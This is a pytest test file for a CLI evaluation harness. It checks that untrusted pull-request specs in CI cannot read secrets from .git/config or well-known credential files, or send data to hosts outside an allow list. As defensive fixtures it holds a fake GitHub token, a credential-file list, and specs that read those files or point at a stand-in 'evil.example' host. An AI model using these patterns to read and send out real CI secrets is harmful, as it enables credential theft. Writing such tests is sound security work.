"""Issue 24: a pull request's spec reads nothing of the repository's secrets, through any door.

The threat: in CI, a stranger's spec runs with the runner's checkout (whose `.git/config` holds the
job's token), environment and network. Every case here failed before the fix; each checks that the
secret's bytes reach no file written, no output printed and no request sent (a logging server on
loopback records every byte it receives)."""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import subprocess
import threading
from pathlib import Path

import pytest

from tests.helpers import SPECS, cli_env, guarded, run_cli, write_spec

TOKEN = "ghs_S3cr3tT0kenFromActionsCheckout"
EXTRAHEADER = f"AUTHORIZATION: basic {TOKEN}"


class LoggingServer:
    """A loopback TCP server that keeps every byte any client sends it (and answers 500)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.received = bytearray()
        self._stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        self.sock.settimeout(0.05)
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(0.5)
                with contextlib.suppress(OSError):
                    self.received += conn.recv(1 << 20)
                    conn.sendall(b"HTTP/1.1 500 x\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")

    def close(self) -> None:
        self._stop = True
        self.thread.join(timeout=2)
        self.sock.close()


@pytest.fixture
def logger():
    srv = LoggingServer()
    yield srv
    srv.close()


@pytest.fixture
def repo(tmp_path):
    """A checkout as actions/checkout leaves it: a git work tree whose .git/config holds the token."""
    root = tmp_path / "repo"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    with (root / ".git" / "config").open("a") as f:
        f.write(f'[http "https://github.com/"]\n\textraheader = {EXTRAHEADER}\n')
    return root


def run(root: Path, *args: str, **env: str):
    return run_cli(*args, cwd=root, env=cli_env(root.parent / "home", root.parent / "cache", **env))


def no_secret_anywhere(root: Path, result, secret: str = TOKEN, *more: bytes, planted: tuple[Path, ...] = ()) -> None:
    """`planted`: the files the test itself wrote the secret into (not a leak)."""
    for path in root.parent.rglob("*"):
        if path.is_file() and ".git" not in path.relative_to(root.parent).parts and not path.is_symlink() \
                and path not in planted:
            data = path.read_bytes()
            assert secret.encode() not in data, f"the secret leaked into {path}"
    assert secret not in result.stdout + result.stderr
    for blob in more:
        assert secret.encode() not in blob


def refused(result, where: str, *words: str) -> None:
    assert result.returncode == 3, result.stdout + result.stderr
    assert where in result.stderr, result.stderr
    for w in words:
        assert w in result.stderr, result.stderr


# ---- 1. .git and credential files are never inputs ----------------------------------------------


def test_git_config_as_an_input_set_is_refused_and_nothing_reaches_a_keyless_host(repo, logger):
    # an openai/* model without api_key_env sends "no key", so today it may go to any host
    write_spec(repo, f"""
        version: 1
        name: leak
        models:
          - {{name: openai/e5-small, base_url: "http://127.0.0.1:{logger.port}/v1"}}
        inputs:
          - from: .git/config
            format: csv
            text: "{{{{ row.values() | join(' ') }}}}"
        """)
    r = run(repo, "run", "spec.yaml", "--execute")
    refused(r, "spec.yaml:6:11:", "git directory")
    assert not (repo / "output").exists()
    no_secret_anywhere(repo, r, TOKEN, bytes(logger.received))


@pytest.mark.parametrize("entry, where", [
    ("  - image: .git/cat.png\n", "spec.yaml:5:12:"),                       # one file
    ("  - from: .git/\n", "spec.yaml:5:11:"),                                # a folder of images
    ("  - from: '.git/*.png'\n", "spec.yaml:5:11:"),                         # a glob inside .git
    ("  - beir: .git/beir-mini\n", "spec.yaml:5:11:"),                       # a data-set folder
    ("  - imagetext: .git/captions.jsonl\n", "spec.yaml:5:16:"),             # a captions file
    ("  - {id: q, text: a cat}\n  - {id: d, text: a dog}\nchecks:\n"
     "  - retrieval: {qrels: .git/qrels.tsv}\n", "spec.yaml:8:"),           # a qrels file
])
def test_nothing_under_dot_git_is_read_by_any_route(repo, entry, where):
    git = repo / ".git"
    shutil.copy(SPECS / "images" / "cat.png", git / "cat.png")
    shutil.copytree(SPECS / "data" / "beir-mini", git / "beir-mini")
    (git / "captions.jsonl").write_text('{"image": "cat.png", "caption": "a cat"}\n')
    (git / "qrels.tsv").write_text("q 0 d 1\n")
    (repo / "spec.yaml").write_text("version: 1\nname: leak\nmodels: [qwen3-vl-embedding]\ninputs:\n" + entry)
    refused(run(repo, "validate", "spec.yaml"), where, "git directory")


@pytest.mark.parametrize("layout", ["bare", "gitfile", "nested"])
def test_git_dirs_elsewhere_and_gitfiles_are_refused_too(repo, layout):
    if layout == "bare":                     # a mirror kept beside the code: mirror.git/config
        subprocess.run(["git", "init", "-q", "--bare", str(repo / "mirror.git")], check=True)
        target = "mirror.git/config"
    elif layout == "gitfile":                # a worktree or submodule: `.git` is a file naming the git dir
        (repo / "sub").mkdir()
        (repo / "sub" / ".git").write_text("gitdir: ../.git\n")
        target = "sub/.git"
    else:                                    # a repository checked out inside the project
        subprocess.run(["git", "init", "-q", str(repo / "vendor" / "lib")], check=True)
        target = "vendor/lib/.git/config"
    write_spec(repo, f"""
        version: 1
        name: leak
        models: [local/e5-small]
        inputs:
          - from: {target}
            format: csv
            text: "{{{{ row.values() | join(' ') }}}}"
        """)
    refused(run(repo, "validate", "spec.yaml"), "spec.yaml:5:11:", "git directory")


CREDENTIAL_FILES = [".netrc", ".npmrc", ".pypirc", ".env", ".aws/credentials", ".ssh/config",
                    ".docker/config.json", "deploy.pem", "tls.key", "id_rsa", "keys/id_ed25519", "id_ecdsa", "id_dsa"]


@pytest.mark.parametrize("name", CREDENTIAL_FILES)
def test_well_known_credential_files_are_refused_unless_allow_path_names_them(repo, name):
    secret = repo / name
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_text(f"id,text\n1,{TOKEN}\n")
    write_spec(repo, f"""
        version: 1
        name: leak
        models: [local/e5-small]
        inputs:
          - from: {name}
            format: csv
            text: "{{{{ row.text }}}}"
        """)
    r = run(repo, "run", "spec.yaml")
    refused(r, "spec.yaml:5:11:", "credential", "--allow-path")
    no_secret_anywhere(repo, r, planted=(secret,))
    # named on the command line (the file itself, or its folder), it is the user's own choice
    allowed = secret if "/" not in name else secret.parent
    ok = run(repo, "validate", "spec.yaml", "--allow-path", str(allowed))
    assert ok.returncode == 0, ok.stderr


# ---- 2. in CI mode, data goes only to hosts allowed outside the spec ----------------------------


KEYLESS = """
    version: 1
    name: hosts
    models:
      - {{name: openai/e5-small, base_url: "{url}"}}
    inputs:
      - {{id: a, text: a private document}}
    """


@pytest.mark.parametrize("env, flags, refused_here", [
    ({"CI": "true"}, [], True),                                 # GitHub Actions, GitLab, CircleCI ...
    ({"CI": "1"}, [], True),
    ({"CI": "true", "HARNESS_CI": "0"}, [], False),             # switched off on purpose
    ({"HARNESS_CI": "1"}, [], True),                            # Jenkins sets no CI
    ({}, ["--trusted-hosts-only"], True),
    ({}, [], False),                                            # outside CI: today's rule
    ({"CI": "false"}, [], False),
    ({"CI": "true"}, ["--allow-host", "evil.example:8080"], False),
    ({"CI": "true", "HARNESS_ALLOW_HOSTS": "evil.example"}, [], False),
])
def test_ci_mode_sends_a_keyless_model_only_to_allowed_hosts(repo, env, flags, refused_here):
    write_spec(repo, KEYLESS.format(url="http://evil.example:8080/v1"))
    r = run(repo, "validate", "spec.yaml", *flags, **env)
    if refused_here:
        refused(r, "spec.yaml:4:", "evil.example:8080", "--allow-host")
    else:
        assert r.returncode == 0, r.stderr


@pytest.mark.parametrize("url", ["http://127.0.0.1:9/v1", "http://localhost:9/v1", "http://[::1]:9/v1"])
def test_ci_mode_allows_loopback(repo, url):
    write_spec(repo, KEYLESS.format(url=url))
    r = run(repo, "validate", "spec.yaml", CI="true")
    assert r.returncode == 0, r.stderr


def test_ci_mode_refuses_a_milvus_server_the_spec_chooses(repo):
    write_spec(repo, """
        version: 1
        name: hosts
        models: [local/e5-small]
        inputs:
          - {id: a, text: a private document}
        export:
          to: http://milvus.example.net:19530
        """)
    refused(run(repo, "validate", "spec.yaml", CI="true"), "spec.yaml:7:", "milvus.example.net", "--allow-host")
    assert run(repo, "validate", "spec.yaml").returncode == 0


# ---- 3. data-set files: confined and only regular files, at every stage -------------------------


def beir_spec(repo: Path) -> None:
    (repo / "spec.yaml").write_text("version: 1\nname: leak\nmodels: [local/e5-small]\ninputs:\n"
                                    "  - beir: data/beir\n")


@pytest.fixture
def beir(repo):
    shutil.copytree(SPECS / "data" / "beir-mini", repo / "data" / "beir")
    beir_spec(repo)
    return repo / "data" / "beir"


def test_a_corpus_linked_outside_the_project_is_refused(repo, beir, tmp_path):
    outside = tmp_path / "outside.jsonl"
    outside.write_text(f'{{"_id": "x", "text": "{TOKEN}"}}\n')
    (beir / "corpus.jsonl").unlink()
    (beir / "corpus.jsonl").symlink_to(outside)
    r = run(repo, "run", "spec.yaml")
    refused(r, "spec.yaml:5:11:", "corpus.jsonl", "outside the project")
    no_secret_anywhere(repo, r, planted=(outside,))


@pytest.mark.parametrize("special", ["fifo", "dev-zero"])
def test_a_corpus_that_is_no_regular_file_is_an_error_naming_it(repo, beir, special):
    (beir / "queries.jsonl").unlink()
    if special == "fifo":
        os.mkfifo(beir / "queries.jsonl")
    else:
        (beir / "queries.jsonl").symlink_to("/dev/zero")
    with guarded():
        r = run(repo, "validate", "spec.yaml", "--allow-path", "/dev")
    refused(r, "spec.yaml:5:11:", "queries.jsonl", "not a regular file")


@pytest.mark.parametrize("what", ["image", "csv"])
def test_a_fifo_input_is_an_error_naming_it_not_a_hang(repo, what):
    os.mkfifo(repo / f"pipe.{'png' if what == 'image' else 'csv'}")
    entry = "  - image: pipe.png\n" if what == "image" else "  - from: pipe.csv\n    text: '{{ row.text }}'\n"
    (repo / "spec.yaml").write_text("version: 1\nname: t\nmodels: [qwen3-vl-embedding]\ninputs:\n" + entry)
    with guarded():
        r = run(repo, "validate", "spec.yaml")
    refused(r, "spec.yaml:5:", "pipe.", "not a regular file")


# ---- 4. credentials in a base URL are refused and never echoed ----------------------------------


@pytest.mark.parametrize("url", ["http://user:p4ssw0rd@127.0.0.1:9/api/v1",
                                 "http://127.0.0.1:9/api/v1?token=p4ssw0rd",
                                 "http://127.0.0.1:9/api/v1#p4ssw0rd"])
def test_a_base_url_carrying_credentials_is_refused_without_echoing_them(repo, url):
    write_spec(repo, "version: 1\nname: t\nmodels: [qwen3-vl-embedding]\ninputs: [{id: a, text: hi}]\n")
    by_env = run(repo, "run", "spec.yaml", DASHSCOPE_HTTP_BASE_URL=url)
    assert by_env.returncode == 4, by_env.stderr
    by_flag = run(repo, "run", "spec.yaml", "--base-url", url)
    assert by_flag.returncode == 2, by_flag.stderr
    write_spec(repo, f"version: 1\nname: t\nendpoint: {url}\nmodels: [qwen3-vl-embedding]\n"
                     "inputs: [{id: a, text: hi}]\n")
    by_spec = run(repo, "run", "spec.yaml")
    refused(by_spec, "spec.yaml:3:", "endpoint")
    for r in (by_env, by_flag, by_spec):
        assert "p4ssw0rd" not in r.stdout + r.stderr
    assert not (repo / "output").exists()


# ---- 5. errors name the link, not what lies behind it -------------------------------------------


def test_a_glob_through_a_link_to_an_outside_folder_names_the_link_not_the_files(repo, tmp_path):
    outside = tmp_path / "private"
    outside.mkdir()
    for name in ("salaries-2026.png", "passport-scan.png"):
        shutil.copy(SPECS / "images" / "cat.png", outside / name)
    (repo / "imgs").mkdir()
    (repo / "imgs" / "shared").symlink_to(outside)
    (repo / "spec.yaml").write_text("version: 1\nname: t\nmodels: [local/e5-small]\ninputs:\n"
                                    "  - from: 'imgs/**/*.png'\n")
    r = run(repo, "validate", "spec.yaml")
    assert r.returncode == 3, r.stderr
    assert "imgs/shared" in r.stderr, r.stderr
    assert "salaries" not in r.stderr and "passport" not in r.stderr, r.stderr


# ---- the same rules on every command, and when the checks read the files again -----------------


@pytest.mark.parametrize("command", ["plan", "run"])
def test_trusted_hosts_only_is_on_every_command_that_checks_hosts(repo, command):
    write_spec(repo, KEYLESS.format(url="http://evil.example:8080/v1"))
    refused(run(repo, command, "spec.yaml", "--trusted-hosts-only"), "spec.yaml:4:", "evil.example:8080",
            "--allow-host")
    assert not (repo / "output").exists()


def test_verify_reexecute_sends_nothing_to_a_host_ci_mode_refuses(repo, logger):
    write_spec(repo, KEYLESS.format(url=f"http://evil.example:{logger.port}/v1"))
    assert run(repo, "run", "spec.yaml").returncode == 0            # outside CI mode: written, not sent
    r = run(repo, "verify", "output/hosts", "--reexecute", "--trusted-hosts-only")
    assert r.returncode == 4 and "not an allowed host" in r.stdout + r.stderr, r.stdout + r.stderr
    assert run(repo, "verify", "output/hosts", "--trusted-hosts-only").returncode == 2   # --reexecute's flag
    assert bytes(logger.received) == b""


def test_harness_ci_takes_only_a_yes_or_a_no(repo):
    write_spec(repo, KEYLESS.format(url="http://127.0.0.1:9/v1"))
    r = run(repo, "validate", "spec.yaml", HARNESS_CI="maybe")
    assert r.returncode == 2 and "HARNESS_CI" in r.stderr, r.stderr


def test_the_checks_read_qrels_and_captions_again_through_the_same_confinement(repo, tmp_path):
    # plan time refuses these already; a file swapped for a link after planning is refused when the
    # checks read it again, not followed out of the project
    from harness.inputs.datasets import JudgementsError, judgements
    from harness.inputs.files import InputFiles

    outside = tmp_path / "outside.tsv"
    outside.write_text(f"q 0 {TOKEN} 1\n")
    (repo / "qrels.tsv").symlink_to(outside)
    (repo / "captions.jsonl").symlink_to(repo / ".git" / "config")
    files = InputFiles.for_spec(repo)
    with pytest.raises(JudgementsError, match="outside the project") as e:
        judgements({"qrels": "qrels.tsv"}, files)
    assert TOKEN not in str(e.value)
    with pytest.raises(JudgementsError, match="git directory"):
        judgements({"imagetext": {"file": "captions.jsonl", "images": ".", "direction": "t2i"}}, files)


def test_git_credentials_is_a_credential_file_too(repo):
    (repo / ".git-credentials").write_text(f"https://x:{TOKEN}@github.com\n")
    (repo / "spec.yaml").write_text("version: 1\nname: t\nmodels: [local/e5-small]\ninputs:\n"
                                    "  - from: .git-credentials\n    format: csv\n    text: '{{ row.x }}'\n")
    refused(run(repo, "validate", "spec.yaml"), "spec.yaml:5:11:", "credential", "--allow-path")
